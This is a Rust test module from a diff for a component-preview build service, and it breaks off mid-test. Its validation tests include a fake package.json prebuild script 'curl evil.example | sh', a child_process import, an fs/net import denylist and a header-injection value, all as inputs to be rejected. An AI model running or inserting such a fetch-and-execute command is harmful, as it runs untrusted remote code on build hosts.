+            let body = json!({"component_id": "abc", "code": "x", "tsconfig": tsconfig});
+            parse_request_body(body.to_string().as_bytes())
+                .unwrap()
+                .validate()
+        };
+
+        assert!(validate("{\"compilerOptions\": ")
+            .unwrap_err()
+            .starts_with("tsconfig is not valid JSON"));
+        assert_eq!(
+            validate("[]").unwrap_err(),
+            "tsconfig must be a JSON object"
+        );
+    }
+
+    #[test]
+    fn test_only_first_invocation_is_cold() {
+        is_cold_start();
+
+        assert!(!is_cold_start());
+    }
+
+    #[tokio::test]
+    async fn test_uploads_carry_sha256_checksum() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.js"), "console.log(1)").unwrap();
+        let store = MemoryStore::default();
+
+        upload_dir(
+            &store,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap();
+
+        assert_eq!(
+            store.find_put("abc/index.js").unwrap().checksum_sha256,
+            Some(sha256_of(b"console.log(1)"))
+        );
+    }
+
+    #[tokio::test]
+    async fn test_checksum_mismatch_names_the_file() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.js"), "console.log(1)").unwrap();
+        let store = MemoryStore::with_corrupted_uploads();
+
+        let err = upload_dir(
+            &store,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap_err();
+
+        assert_eq!(
+            upload_failure_message(&err),
+            "checksum mismatch uploading abc/index.js"
+        );
+    }
+
+    #[test]
+    fn test_generated_files_are_returned() {
+        let entry_point = render_entry_point(&EntryOptions {
+            import_path: "./UserComponent",
+            ..Default::default()
+        });
+        let html = render_html(&HtmlOptions::default());
+        let oversized = "x".repeat(MAX_RETURNED_FILE_BYTES + 1);
+
+        let generated = generated_files(&[
+            ("index.tsx", entry_point.as_str()),
+            ("index.html", html.as_str()),
+            ("big.html", oversized.as_str()),
+        ]);
+
+        assert_eq!(generated["index.tsx"], entry_point);
+        assert_eq!(generated["index.html"], html);
+        assert!(generated["big.html"].is_null());
+    }
+
+    /// Connects to a fresh [`MemoryStore`], counting how often it is asked to.
+    #[derive(Default)]
+    struct MemoryConnector {
+        connects: std::sync::atomic::AtomicUsize,
+    }
+
+    impl MemoryConnector {
+        fn connects(&self) -> usize {
+            self.connects.load(std::sync::atomic::Ordering::SeqCst)
+        }
+    }
+
+    impl Connect for MemoryConnector {
+        type Store = MemoryStore;
+
+        async fn connect(&self, _config: &BuildConfig) -> MemoryStore {
+            self.connects
+                .fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            MemoryStore::default()
+        }
+    }
+
+    /// A configuration with just the required settings, plus `overrides`.
+    fn config_with(overrides: &[(&str, &str)]) -> BuildConfig {
+        let mut vars = HashMap::from([
+            ("S3_BUCKET_NAME", "previews"),
+            ("AWS_REGION", "eu-west-1"),
+            ("LAMBDA_TASK_ROOT", "/var/task"),
+        ]);
+        vars.extend(overrides.iter().copied());
+        BuildConfig::from_lookup(|name| vars.get(name).map(|value| value.to_string())).unwrap()
+    }
+
+    #[test]
+    fn test_build_config_from_env_vars() {
+        let vars = HashMap::from([
+            ("S3_BUCKET_NAME", "previews"),
+            ("AWS_REGION", "eu-west-1"),
+            ("LAMBDA_TASK_ROOT", "/var/task"),
+            ("CLOUDFRONT_DOMAIN", " "),
+            ("MAX_BUNDLE_BYTES", "1048576"),
+            ("S3_OBJECT_TAGS", "team=web"),
+            ("SCAN_IMPORTS", "1"),
+            ("IMPORT_DENYLIST", "fs, net,"),
+            ("BUILD_TIMEOUT_SECS", "60"),
+            ("TEMPLATE_COPY_ATTEMPTS", "0"),
+            ("MAX_PATH_DEPTH", "4"),
+            ("WORKSPACE_TRASH_GRACE_SECS", "600"),
+            ("CLOUDFRONT_DISTRIBUTION_ID", "E2QWRUHAPOMQZL"),
+            ("INVALIDATION_ATTEMPTS", "3"),
+            ("ENV_NAME", "staging"),
+            ("RESPONSE_CACHE_CONTROL", "private, max-age=60"),
+            ("S3_MAX_CONNECTIONS", " 8 "),
+            ("S3_ENDPOINT_URL", "http://localhost:9000"),
+            ("NPX_BIN", "/opt/node/bin/npx"),
+        ]);
+        let config =
+            BuildConfig::from_lookup(|name| vars.get(name).map(|value| value.to_string())).unwrap();
+
+        assert_eq!(config.bucket_name, "previews");
+        assert_eq!(config.region, "eu-west-1");
+        assert_eq!(config.cloudfront_domain, None);
+        assert_eq!(config.max_bundle_bytes, Some(1_048_576));
+        assert_eq!(
+            config.env_tags,
+            Some(vec![("team".to_string(), "web".to_string())])
+        );
+        assert!(config.scan_imports);
+        assert_eq!(config.import_denylist, ["fs", "net"]);
+        assert_eq!(config.build_timeout, Duration::from_secs(60));
+        assert_eq!(config.copy_attempts, 1);
+        assert_eq!(config.source_key_prefix, DEFAULT_SOURCE_KEY_PREFIX);
+        assert_eq!(config.max_path_depth, 4);
+        assert_eq!(config.trash_grace, Some(Duration::from_secs(600)));
+        assert_eq!(config.screenshot_browser, None);
+        assert_eq!(
+            config.cloudfront_distribution_id.as_deref(),
+            Some("E2QWRUHAPOMQZL")
+        );
+        assert_eq!(
+            config.invalidation_retry,
+            RetryPolicy {
+                attempts: 3,
+                backoff: DEFAULT_INVALIDATION_BACKOFF,
+            }
+        );
+        assert_eq!(config.env_name.as_deref(), Some("staging"));
+        assert_eq!(config.response_cache_control, "private, max-age=60");
+        assert_eq!(config.s3_max_connections, 8);
+        assert_eq!(
+            config.s3_endpoint_url.as_deref(),
+            Some("http://localhost:9000")
+        );
+        assert_eq!(config.bun_bin, Path::new(DEFAULT_BUN_BIN));
+        assert_eq!(config.npx_bin, Path::new("/opt/node/bin/npx"));
+
+        let defaults = config_with(&[("ENV_NAME", " ")]);
+        assert_eq!(defaults.env_name, None);
+        assert_eq!(
+            defaults.response_cache_control,
+            DEFAULT_RESPONSE_CACHE_CONTROL
+        );
+        assert_eq!(defaults.s3_max_connections, DEFAULT_S3_MAX_CONNECTIONS);
+        assert_eq!(defaults.s3_endpoint_url, None);
+        assert_eq!(defaults.npx_bin, Path::new(DEFAULT_NPX_BIN));
+    }
+
+    #[test]
+    fn test_build_config_rejects_bad_values() {
+        let lookup = |overrides: &[(&str, &str)]| {
+            let mut vars = HashMap::from([
+                ("S3_BUCKET_NAME", "previews"),
+                ("AWS_REGION", "eu-west-1"),
+                ("LAMBDA_TASK_ROOT", "/var/task"),
+            ]);
+            vars.extend(overrides.iter().copied());
+            BuildConfig::from_lookup(|name| vars.get(name).map(|value| value.to_string()))
+        };
+
+        assert!(lookup(&[]).is_ok());
+        assert_eq!(
+            lookup(&[("BUILD_TIMEOUT_SECS", "soon")]).unwrap_err(),
+            "BUILD_TIMEOUT_SECS must be a number of seconds"
+        );
+        assert_eq!(
+            lookup(&[("S3_MAX_CONNECTIONS", "lots")]).unwrap_err(),
+            "S3_MAX_CONNECTIONS must be a number"
+        );
+        assert_eq!(
+            BuildConfig::from_lookup(|_| None).unwrap_err(),
+            "S3_BUCKET_NAME not set"
+        );
+    }
+
+    #[tokio::test]
+    async fn test_missing_template_stylesheet_is_skipped_only_when_lenient() {
+        let dir = tempfile::tempdir().unwrap();
+        let src_dir = dir.path().join("src");
+        std::fs::create_dir(&src_dir).unwrap();
+
+        let strict = config_with(&[]);
+        assert_eq!(
+            copy_stylesheet(dir.path(), &src_dir, strict.lenient_stylesheet)
+                .await
+                .unwrap_err()
+                .message,
+            "server misconfigured: the template has no globals.css"
+        );
+
+        let lenient = config_with(&[("LENIENT_TEMPLATE_STYLESHEET", "1")]);
+        assert!(
+            !copy_stylesheet(dir.path(), &src_dir, lenient.lenient_stylesheet)
+                .await
+                .unwrap()
+        );
+        assert!(!src_dir.join("globals.css").exists());
+
+        std::fs::write(dir.path().join("globals.css"), "@import \"tailwindcss\";").unwrap();
+        assert!(copy_stylesheet(dir.path(), &src_dir, false).await.unwrap());
+        assert!(src_dir.join("globals.css").exists());
+    }
+
+    #[test]
+    fn test_gzip_follows_accept_encoding() {
+        let request = |accept_encoding: Option<&str>| {
+            let mut builder = lambda_http::http::Request::builder();
+            if let Some(value) = accept_encoding {
+                builder = builder.header(ACCEPT_ENCODING, value);
+            }
+            builder.body(Body::Empty).unwrap()
+        };
+
+        assert!(accepts_gzip(&request(Some("gzip, deflate, br"))));
+        assert!(accepts_gzip(&request(Some("br;q=1.0, *;q=0.5"))));
+        assert!(!accepts_gzip(&request(Some("br, gzip;q=0"))));
+        assert!(!accepts_gzip(&request(None)));
+    }
+
+    #[test]
+    fn test_gzip_response_round_trips() {
+        let payload =
+            json!({"renderUrl": "https://abc.preview.runney.cloud/index.html"}).to_string();
+        let response = Response::builder()
+            .status(200)
+            .header(CONTENT_TYPE, "application/json")
+            .body(Body::from(payload.clone()))
+            .unwrap();
+
+        let response = gzip_response(response).unwrap();
+        assert_eq!(response.headers()[CONTENT_ENCODING], "gzip");
+        assert_eq!(response.headers()[CONTENT_TYPE], "application/json");
+
+        let mut decoded = String::new();
+        std::io::Read::read_to_string(
+            &mut flate2::read::GzDecoder::new(response.body().as_ref()),
+            &mut decoded,
+        )
+        .unwrap();
+        assert_eq!(decoded, payload);
+    }
+
+    #[tokio::test]
+    async fn test_label_is_stored_as_metadata() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.html"), "<html></html>").unwrap();
+        std::fs::write(dir.path().join("index.js"), "console.log(1)").unwrap();
+        let store = MemoryStore::default();
+        let options = UploadOptions {
+            metadata: build_metadata("abc", "2026-01-01T00:00:00Z", Some("tenant-42")),
+            ..Default::default()
+        };
+
+        upload_dir(&store, "bucket", dir.path(), "abc", &options)
+            .await
+            .unwrap();
+
+        for key in store.put_keys() {
+            assert_eq!(store.find_put(&key).unwrap().metadata["label"], "tenant-42");
+        }
+        assert!(!build_metadata("abc", "2026-01-01T00:00:00Z", None).contains_key("label"));
+    }
+
+    #[test]
+    fn test_label_length_is_validated() {
+        let validate = |label: &str| {
+            let body = json!({"component_id": "abc", "code": "x", "label": label});
+            parse_request_body(body.to_string().as_bytes())
+                .unwrap()
+                .validate()
+        };
+
+        assert!(validate("tenant-42").is_ok());
+        assert!(validate(&"x".repeat(MAX_LABEL_LEN + 1)).is_err());
+        assert!(validate("").is_err());
+        assert!(validate("tenant\n42").is_err());
+    }
+
+    #[tokio::test]
+    async fn test_immutable_deploy_lands_under_hash_before_pointer() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.html"), "<html></html>").unwrap();
+        std::fs::write(dir.path().join("index.js"), "console.log(1)").unwrap();
+        let store = MemoryStore::default();
+
+        let (prefix, summary) = publish_immutable(
+            &store,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap();
+
+        let hash = deploy_hash(dir.path()).await.unwrap();
+        assert_eq!(prefix, format!("abc/{}", hash));
+        assert_eq!(hash.len(), DEPLOY_HASH_LEN);
+        assert_eq!(summary.uploaded, 2);
+
+        let puts = store.puts.lock().unwrap();
+        let (pointer, files) = puts.split_last().unwrap();
+        assert_eq!(pointer.key, "abc/latest.json");
+        assert!(files
+            .iter()
+            .all(|put| put.key.starts_with(&format!("{}/", prefix))));
+
+        let pointer: serde_json::Value = serde_json::from_slice(&pointer.body).unwrap();
+        assert_eq!(pointer["deployHash"], hash);
+        assert_eq!(pointer["prefix"], prefix);
+
+        // The returned page URL names the hashed copy that was uploaded.
+        assert_eq!(
+            published_page_url("abc", &prefix, "index.html"),
+            format!("https://abc.preview.runney.cloud/{}/index.html", hash)
+        );
+        assert!(files
+            .iter()
+            .any(|put| put.key == format!("abc/{}/index.html", hash)));
+        assert_eq!(
+            original_url("https://d123.cloudfront.net", &prefix, "index.html"),
+            format!("https://d123.cloudfront.net/abc/{}/index.html", hash)
+        );
+        drop(puts);
+
+        let store = store.with_etag("abc/latest.json", "e1");
+        let response = component_exists_response(&store, "bucket", "abc")
+            .await
+            .unwrap();
+        assert_eq!(response.status(), 200);
+    }
+
+    #[test]
+    fn test_page_urls_follow_the_published_prefix() {
+        assert_eq!(
+            published_page_url("abc", "abc", "index.html"),
+            "https://abc.preview.runney.cloud/index.html"
+        );
+        assert_eq!(
+            published_page_url("abc", "abc/1.2.0", "main.html"),
+            "https://abc.preview.runney.cloud/1.2.0/main.html"
+        );
+
+        let body = json!({
+            "component_id": "abc",
+            "code": "x",
+            "immutable": true,
+            "asset_url_mode": "absolute"
+        });
+        let data = parse_request_body(body.to_string().as_bytes()).unwrap();
+        assert!(data.validate().is_err());
+    }
+
+    #[tokio::test]
+    async fn test_deploy_hash_follows_content() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.js"), "console.log(1)").unwrap();
+        let first = deploy_hash(dir.path()).await.unwrap();
+
+        assert_eq!(deploy_hash(dir.path()).await.unwrap(), first);
+        std::fs::write(dir.path().join("index.js"), "console.log(2)").unwrap();
+        assert_ne!(deploy_hash(dir.path()).await.unwrap(), first);
+    }
+
+    #[cfg(target_os = "linux")]
+    #[tokio::test]
+    async fn test_disk_full_write_is_507_and_clears_stale_workspaces() {
+        let dir = tempfile::tempdir().unwrap();
+        let workspace = dir.path().join("abc");
+        let stale = dir.path().join("old-build");
+        let unrelated = dir.path().join("cache");
+        for path in [&workspace, &stale, &unrelated] {
+            std::fs::create_dir_all(path).unwrap();
+        }
+        std::fs::write(workspace.join("package.json"), "{}").unwrap();
+        std::fs::write(stale.join("package.json"), "{}").unwrap();
+        let trashed = dir.path().join(".nimbus-trash/xyz-1700000000000");
+        std::fs::create_dir_all(&trashed).unwrap();
+
+        // Writes to /dev/full fail with ENOSPC.
+        let error = write_workspace_file(Path::new("/dev/full"), "code")
+            .await
+            .unwrap_err();
+        assert!(error.is_storage_full());
+        let failure = workspace_failure(error, dir.path(), &workspace).await;
+
+        assert_eq!(failure.status, 507);
+        assert!(failure
+            .message
+            .starts_with("insufficient storage on worker: Failed to write full"));
+        assert!(!stale.exists());
+        assert!(!trashed.exists());
+        assert!(workspace.exists());
+        assert!(unrelated.exists());
+
+        let response = failure.into_response().unwrap();
+        assert_eq!(response.headers()["x-error-code"], "storage_full");
+
+        // The message alone doesn't make a write count as out of space.
+        let other = WorkspaceError::from("Failed to write x: No space left on device".to_string());
+        let other = workspace_failure(other, dir.path(), &workspace).await;
+        assert_eq!(other.status, 500);
+    }
+
+    #[tokio::test]
+    async fn test_css_only_publishes_just_the_stylesheet() {
+        use std::os::unix::fs::PermissionsExt;
+
+        let dir = tempfile::tempdir().unwrap();
+        let workspace = dir.path().join("abc");
+        std::fs::create_dir_all(workspace.join("src")).unwrap();
+        std::fs::create_dir_all(workspace.join("dist")).unwrap();
+        std::fs::write(
+            workspace.join("src/globals.css"),
+            "@import \"tailwindcss\";",
+        )
+        .unwrap();
+        std::fs::write(workspace.join("dist/index.js"), "stale").unwrap();
+
+        let log = dir.path().join("bun.log");
+        let bun = dir.path().join("bun");
+        std::fs::write(
+            &bun,
+            format!(
+                "#!/bin/sh\necho \"$@\" >> {}\nwhile [ $# -gt 0 ]; do [ \"$1\" = -o ] && printf '.p{{}}' > \"$2\"; shift; done\n",
+                log.display()
+            ),
+        )
+        .unwrap();
+        std::fs::set_permissions(&bun, std::fs::Permissions::from_mode(0o755)).unwrap();
+
+        let runner = crate::bundler::Bun { bin: bun.clone() };
+        let build = CssBuild {
+            runner: &runner,
+            workspace_dir: &workspace,
+            tailwind_version: None,
+            safelist: &[],
+            timeout: DEFAULT_BUILD_TIMEOUT,
+            fail_on_warnings: false,
+        };
+        let store = MemoryStore::default();
+        let (summary, warnings) =
+            publish_css_only(&store, "bucket", &build, "abc", &UploadOptions::default())
+                .await
+                .unwrap();
+
+        assert_eq!(summary.uploaded, 1);
+        assert!(warnings.is_empty());
+        assert_eq!(store.put_keys(), vec!["abc/index.css".to_string()]);
+        assert_eq!(store.find_put("abc/index.css").unwrap().body, b".p{}");
+
+        let invocations = std::fs::read_to_string(&log).unwrap();
+        assert_eq!(invocations.lines().count(), 1);
+        assert!(invocations.starts_with("x @tailwindcss/cli -i"));
+        assert!(!invocations.contains("build"));
+    }
+
+    #[test]
+    fn test_globals_css_requires_css_only_mode() {
+        let parse =
+            |body: serde_json::Value| parse_request_body(body.to_string().as_bytes()).unwrap();
+
+        let css_only = parse(json!({
+            "component_id": "abc",
+            "code": "x",
+            "mode": "css-only",
+            "globals_css": "@import \"tailwindcss\";"
+        }));
+        assert_eq!(css_only.mode, Some(BuildMode::CssOnly));
+        assert!(css_only.validate().is_ok());
+
+        let full = parse(json!({"component_id": "abc", "code": "x", "globals_css": "a{}"}));
+        assert_eq!(
+            full.validate().unwrap_err(),
+            "globals_css requires mode css-only"
+        );
+    }
+
+    #[tokio::test]
+    async fn test_throttled_invalidation_is_deferred() {
+        let policy = RetryPolicy {
+            attempts: 2,
+            backoff: Duration::from_millis(1),
+        };
+        let paths = ["/abc/*".to_string()];
+
+        let cdn = ThrottlingCdn::throttling(1);
+        assert_eq!(
+            invalidate_paths(&cdn, "E123", &paths, "abc", policy).await,
+            "submitted"
+        );
+
+        let cdn = ThrottlingCdn::throttling(5);
+        assert_eq!(
+            invalidate_paths(&cdn, "E123", &paths, "abc", policy).await,
+            "deferred"
+        );
+        assert_eq!(cdn.calls.lock().unwrap().len(), 2);
+    }
+
+    #[tokio::test]
+    async fn test_cache_rules_override_default_cache_control() {
+        let dir = tempfile::tempdir().unwrap();
+        for name in ["index.html", "index.js", "chunk-2fce6291.js", "logo.svg"] {
+            std::fs::write(dir.path().join(name), name).unwrap();
+        }
+        let options = UploadOptions {
+            cache_rules: vec![
+                CacheRule {
+                    pattern: "index.js".to_string(),
+                    cache_control: "public, max-age=300".to_string(),
+                },
+                CacheRule {
+                    pattern: "*.js".to_string(),
+                    cache_control: "no-store".to_string(),
+                },
+            ],
+            ..Default::default()
+        };
+
+        let store = MemoryStore::default();
+        upload_dir(&store, "bucket", dir.path(), "abc", &options)
+            .await
+            .unwrap();
+
+        let cache_control = |key: &str| store.find_put(key).unwrap().cache_control;
+        assert_eq!(
+            cache_control("abc/index.js").as_deref(),
+            Some("public, max-age=300")
+        );
+        assert_eq!(
+            cache_control("abc/chunk-2fce6291.js").as_deref(),
+            Some("no-store")
+        );
+        assert_eq!(
+            cache_control("abc/index.html").as_deref(),
+            Some(HTML_CACHE_CONTROL)
+        );
+        assert_eq!(cache_control("abc/logo.svg"), None);
+        assert_eq!(
+            default_cache_control("chunk-2fce6291.js"),
+            Some(HASHED_CACHE_CONTROL)
+        );
+
+        let invalid = CacheRule {
+            pattern: "*.js".to_string(),
+            cache_control: "max-age=60\nx-injected: 1".to_string(),
+        };
+        assert!(validate_cache_rule(&invalid).is_err());
+    }
+
+    #[tokio::test]
+    async fn test_build_report_is_uploaded() {
+        let dir = tempfile::tempdir().unwrap();
+        let progress = Progress::default();
+        progress.start("bundle");
+        progress.start("upload");
+
+        let files = vec!["index.html".to_string(), "index.js".to_string()];
+        let report = build_report(&BuildReport {
+            component_id: "abc",
+            built_at: "2026-01-02T03:04:05Z",
+            label: None,
+            timings: &progress.timings(),
+            total: Duration::from_millis(1500),
+            sizes: &BundleSizes { js: 2048, css: 512 },
+            files: &files,
+            toolchain: toolchain_versions(
+                &crate::bundler::Bun {
+                    bin: PathBuf::from("/nonexistent/bun"),
+                },
+                dir.path(),
+            )
+            .await,
+            warnings: &["unused import".to_string()],
+            logs: &[("Bun build", "Bundled 3 modules".to_string())],
+        });
+
+        let store = MemoryStore::default();
+        publish_report(&store, "bucket", "abc", &report)
+            .await
+            .unwrap();
+
+        let put = store.find_put("abc/report.json").unwrap();
+        assert_eq!(put.content_type, "application/json");
+        let uploaded: serde_json::Value = serde_json::from_slice(&put.body).unwrap();
+        for key in ["timings", "sizes", "logs", "files", "toolchain", "warnings"] {
+            assert!(uploaded.get(key).is_some(), "missing {}", key);
+        }
+        assert_eq!(uploaded["timings"]["totalMs"], 1500);
+        assert_eq!(uploaded["sizes"]["js"], 2048);
+        assert_eq!(uploaded["toolchain"]["bun"], serde_json::Value::Null);
+        assert_eq!(uploaded["logs"][0]["step"], "Bun build");
+    }
+
+    #[tokio::test]
+    async fn test_lint_reports_syntax_errors_without_building() {
+        use std::os::unix::fs::PermissionsExt;
+
+        let dir = tempfile::tempdir().unwrap();
+        let lint_dir = dir.path().join("abc-lint");
+        let log = dir.path().join("bun.log");
+        let bun = dir.path().join("bun");
+        std::fs::write(
+            &bun,
+            format!(
+                "#!/bin/sh\necho \"$@\" > {}\n\
+                 echo 'error: Unexpected end of file' >&2\n\
+                 echo \"    at $PWD/UserComponent.tsx:1:27\" >&2\n\
+                 exit 1\n",
+                log.display()
+            ),
+        )
+        .unwrap();
+        std::fs::set_permissions(&bun, std::fs::Permissions::from_mode(0o755)).unwrap();
+
+        let files = [SourceFile {
+            path: "data/items.json".to_string(),
+            content: "[]".to_string(),
+        }];
+        let diagnostics = lint_component(
+            &bun,
+            &lint_dir,
+            "export default () => <div>",
+            &files,
+            DEFAULT_BUILD_TIMEOUT,
+        )
+        .await
+        .unwrap();
+
+        assert_eq!(diagnostics.len(), 1);
+        assert_eq!(diagnostics[0].severity, Severity::Error);
+        assert_eq!(diagnostics[0].message, "Unexpected end of file");
+        assert_eq!(diagnostics[0].file.as_deref(), Some("UserComponent.tsx"));
+        assert_eq!(diagnostics[0].line, Some(1));
+
+        let args = std::fs::read_to_string(&log).unwrap();
+        assert_eq!(
+            args.trim(),
+            "build --no-bundle --outdir ./.lint-out ./UserComponent.tsx"
+        );
+        assert!(!lint_dir.exists());
+    }
+
+    #[tokio::test]
+    async fn test_each_format_is_built_and_uploaded() {
+        use crate::bundler::Bun;
+        use std::os::unix::fs::PermissionsExt;
+
+        let dir = tempfile::tempdir().unwrap();
+        let workspace = dir.path().join("abc");
+        let out_dir = workspace.join("dist");
+        std::fs::create_dir_all(&out_dir).unwrap();
+        std::fs::write(out_dir.join("index.js"), "console.log(1)").unwrap();
+
+        let bun = dir.path().join("bun");
+        std::fs::write(
+            &bun,
+            "#!/bin/sh\n\
+             while [ $# -gt 0 ]; do\n\
+             case $1 in --outdir) outdir=$2;; --format) format=$2;; esac; shift\n\
+             done\n\
+             mkdir -p \"$outdir\" && echo \"// $format\" > \"$outdir/index.js\"\n",
+        )
+        .unwrap();
+        std::fs::set_permissions(&bun, std::fs::Permissions::from_mode(0o755)).unwrap();
+
+        let files = build_formats(
+            &Bun { bin: bun },
+            &BunBuildOptions::default(),
+            &workspace,
+            &out_dir,
+            &[OutputFormat::Esm, OutputFormat::Cjs],
+            DEFAULT_BUILD_TIMEOUT,
+        )
+        .await
+        .unwrap();
+        assert_eq!(
+            files,
+            vec![
+                (OutputFormat::Esm, "index.esm.js".to_string()),
+                (OutputFormat::Cjs, "index.cjs.js".to_string()),
+            ]
+        );
+
+        let store = MemoryStore::default();
+        upload_dir(&store, "bucket", &out_dir, "abc", &UploadOptions::default())
+            .await
+            .unwrap();
+
+        assert_eq!(
+            store.find_put("abc/index.esm.js").unwrap().body,
+            b"// esm\n"
+        );
+        assert_eq!(
+            store.find_put("abc/index.cjs.js").unwrap().body,
+            b"// cjs\n"
+        );
+        assert_eq!(
+            store.find_put("abc/index.js").unwrap().body,
+            b"console.log(1)"
+        );
+    }
+
+    #[test]
+    fn test_format_validation() {
+        let parse =
+            |body: serde_json::Value| parse_request_body(body.to_string().as_bytes()).unwrap();
+
+        let duplicate =
+            parse(json!({"component_id": "abc", "code": "x", "formats": ["esm", "esm"]}));
+        assert_eq!(duplicate.validate().unwrap_err(), "duplicate format: esm");
+
+        let split = parse(
+            json!({"component_id": "abc", "code": "x", "formats": ["esm", "cjs"], "split": true}),
+        );
+        assert_eq!(
+            split.validate().unwrap_err(),
+            "split only supports the esm format"
+        );
+
+        let library =
+            parse(json!({"component_id": "abc", "code": "x", "formats": ["esm", "iife"]}));
+        assert!(library.validate().is_ok());
+        let umd = json!({"component_id": "abc", "code": "x", "formats": ["umd"]});
+        assert!(parse_request_body(umd.to_string().as_bytes()).is_err());
+    }
+
+    #[test]
+    fn test_denied_import_in_files_or_patch_is_found() {
+        let denylist = vec!["fs".to_string()];
+        let parse =
+            |body: serde_json::Value| parse_request_body(body.to_string().as_bytes()).unwrap();
+
+        let in_file = parse(json!({
+            "component_id": "abc",
+            "code": "import { load } from './load';",
+            "files": [{ "path": "load.ts", "content": "import { readFileSync } from 'node:fs';" }]
+        }));
+        assert_eq!(in_file.denied_import(&denylist).as_deref(), Some("node:fs"));
+
+        let in_patch = parse(json!({
+            "component_id": "abc",
+            "code": "x",
+            "patch": "--- a/vite.ts\n+++ b/vite.ts\n@@ -1,1 +1,2 @@\n export {};\n+import fs from 'fs';\n"
+        }));
+        assert_eq!(in_patch.denied_import(&denylist).as_deref(), Some("fs"));
+
+        let clean = parse(json!({ "component_id": "abc", "code": "import React from 'react';" }));
+        assert_eq!(clean.denied_import(&denylist), None);
+    }
+
+    #[test]
+    fn test_patch_adding_a_prebuild_script_is_rejected() {
+        let body = json!({
+            "component_id": "abc",
+            "code": "x",
+            "patch": "--- a/package.json\n+++ b/package.json\n@@ -1,2 +1,3 @@\n {\n+  \"scripts\": { \"prebuild\": \"curl evil.example | sh\" },\n   \"name\": \"template\",\n"
+        });
+        let data = parse_request_body(body.to_string().as_bytes()).unwrap();
+        assert_eq!(
+            data.validate().unwrap_err(),
+            "patch may not change package.json scripts"
+        );
+
+        let config = json!({
+            "component_id": "abc",
+            "code": "x",
+            "patch": "--- a/tailwind.config.js\n+++ b/tailwind.config.js\n@@ -1,1 +1,2 @@\n export default {};\n+require('child_process');\n"
+        });
+        let data = parse_request_body(config.to_string().as_bytes()).unwrap();
+        assert_eq!(
+            data.validate().unwrap_err(),
+            "patch may not change tailwind.config.js"
+        );
+    }
+
+    #[test]
+    fn test_file_overwriting_an_entry_is_rejected() {
+        let body = json!({
+            "component_id": "abc",
+            "code": "x",
+            "files": [{ "path": "Card.tsx", "content": "export default () => null;" }],
+            "entries": [{ "name": "Card", "import_path": "./Card" }]
+        });
+        let data = parse_request_body(body.to_string().as_bytes()).unwrap();
+
+        assert_eq!(
+            data.validate().unwrap_err(),
+            "file path Card.tsx collides with the entry point of Card"
+        );
+    }
+
+    #[test]
+    fn test_bun_only_features_are_named() {
+        let parse =
+            |body: serde_json::Value| parse_request_body(body.to_string().as_bytes()).unwrap();
+
+        let with_args =
+            parse(json!({"component_id": "abc", "code": "x", "bun_args": ["--minify"]}));
+        assert_eq!(with_args.bun_only_feature(), Some("bun_args"));
+
+        let lint = parse(json!({"component_id": "abc", "code": "x", "mode": "lint"}));
+        assert_eq!(lint.bun_only_feature(), Some("mode lint"));
+
+        let install =
+            parse(json!({"component_id": "abc", "code": "x", "dependencies": {"clsx": "2"}}));
+        assert_eq!(install.bun_only_feature(), Some("dependencies"));
+
+        let plain = parse(json!({"component_id": "abc", "code": "x"}));
+        assert_eq!(plain.bun_only_feature(), None);
+    }
+
+    /// Serialises builds run through the whole handler, which all stage the
+    /// template at `/tmp/templates`.
+    static HANDLER_BUILDS: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());
+
+    /// A Lambda task root holding the shipped template, minus its
+    /// `node_modules`, and an `npx` that stands in for esbuild and the
+    /// Tailwind CLI, writing their outputs and logging its arguments to
+    /// `npx.log`. There is no Bun, so the handler falls back to esbuild.
+    #[cfg(unix)]
+    fn esbuild_task_root() -> tempfile::TempDir {
+        use std::os::unix::fs::PermissionsExt;
+
+        let root = tempfile::tempdir().unwrap();
+        let templates = root.path().join("templates");
+        std::fs::create_dir(&templates).unwrap();
+        let shipped = Path::new(env!("CARGO_MANIFEST_DIR")).join("templates");
+        for entry in std::fs::read_dir(&shipped).unwrap() {
+            let path = entry.unwrap().path();
+            if path.file_name() == Some("node_modules".as_ref()) {
+                continue;
+            }
+            let status = std::process::Command::new("cp")
+                .arg("-r")
+                .arg(&path)
+                .arg(&templates)
+                .status()
+                .unwrap();
+            assert!(status.success());
+        }
+
+        let npx = root.path().join("npx");
+        std::fs::write(
+            &npx,
+            format!(
+                "#!/bin/sh\necho \"$@\" >> {}\ncase \"$2\" in\n  esbuild) mkdir -p dist && printf 'console.log(1)' > dist/index.js ;;\n  @tailwindcss/cli) while [ $# -gt 0 ]; do [ \"$1\" = -o ] && printf '.p{{}}' > \"$2\"; shift; done ;;\nesac\n",
+                root.path().join("npx.log").display()
+            ),
+        )
+        .unwrap();
+        std::fs::set_permissions(&npx, std::fs::Permissions::from_mode(0o755)).unwrap();
+        root
+    }
+
+    /// Settings that build from `root`, as made by [`esbuild_task_root`].
+    fn esbuild_config(root: &Path, overrides: &[(&str, &str)]) -> BuildConfig {
+        let task_root = root.to_str().unwrap();
+        let bun = root.join("bun");
+        let npx = root.join("npx");
+        let mut vars = vec![
+            ("LAMBDA_TASK_ROOT", task_root),
+            ("BUN_BIN", bun.to_str().unwrap()),
+            ("NPX_BIN", npx.to_str().unwrap()),
+        ];
+        vars.extend(overrides.iter().copied());
+        config_with(&vars)
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_default_template_builds_with_esbuild() {
+        let _serial = HANDLER_BUILDS.lock().await;
+        let root = esbuild_task_root();
+        let config = esbuild_config(root.path(), &[]);
+        let s3 = SharedStore::new(MemoryConnector::default());
+        let body = json!({ "component_id": "esbuild-default", "code": "export default () => <p className=\"p\" />;" });
+
+        let response = build_component(
+            Request::new(Body::from(body.to_string())),
+            &Progress::default(),
+            &config,
+            &s3,
+        )
+        .await
+        .unwrap();
+
+        assert_eq!(
+            response.status(),
+            200,
+            "{}",
+            String::from_utf8_lossy(response.body())
+        );
+        let store = s3.get(&config).await.inner();
+        assert_eq!(
